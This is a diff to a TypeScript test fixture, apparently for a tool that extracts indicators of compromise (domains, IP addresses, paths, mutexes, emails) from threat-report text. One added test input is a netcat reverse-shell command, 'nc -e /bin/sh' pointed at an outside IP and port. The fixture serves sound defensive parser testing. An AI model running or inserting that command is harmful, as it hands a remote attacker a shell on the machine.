@@ -41,6 +41,7 @@ export const FRESH_SENTENCES: Readonly<Record<string, readonly Sentence[]>> = {
     ['{"src":"a","evil-panel.live":"x"}', 'domain evil-panel.live'],
     ['evil.id=203.0.113.7', 'domain evil.id', 'ipv4 203.0.113.7'],
     ['a=1 evil.com=2 b=3', 'domain evil.com'],
+    ['evil.site:\n  first_seen: 2024-10-03\n  note: x', 'domain evil.site'],
     ['evil.live: panel\nevil.com: kit', 'domain evil.live', 'domain evil.com'],
   ],
   'user agents in logs of IIS and in texts without blanks': [
@@ -114,6 +115,12 @@ export const FRESH_SENTENCES: Readonly<Record<string, readonly Sentence[]>> = {
     ['what is C:\\x? Next, \\\\?\\C:\\Temp\\a.exe', 'windows-path C:\\x', 'windows-path C:\\Temp\\a.exe'],
   ],
   'what else of letters and logs was read wrongly': [
+    ['Affected: Acme Gateway 9.1.0.0 - 9.1.0.14, 10.0.0.0 - 10.0.0.3'],
+    ['Affected: hosts 10.0.0.5 and 45.33.2.1', 'ipv4 10.0.0.5', 'ipv4 45.33.2.1'],
+    ['version 9.1.0.2 runs on 10.0.0.5', 'ipv4 10.0.0.5'],
+    ['nc -e /bin/sh 5.8.18.8 4243', 'unix-path /bin/sh', 'ipv4 5.8.18.8'],
+    ['a mutex "Mutex" and the mutex "Global\\Mutex1"', 'mutex Global\\Mutex1'],
+    [`${MD5}.vir`, `filename ${MD5}.vir`],
     ['Muster GmbH & Co.KG, evil.co.kg', 'hostname evil.co.kg'],
     ['versão 1.2.3.4, sezione 1.2.3.4 and rozdział 1.2.3.4'],
     ['bob[_at_]evil.com and al(-at-)evil[-dot-]com', 'email bob@evil.com', 'email al@evil.com'],
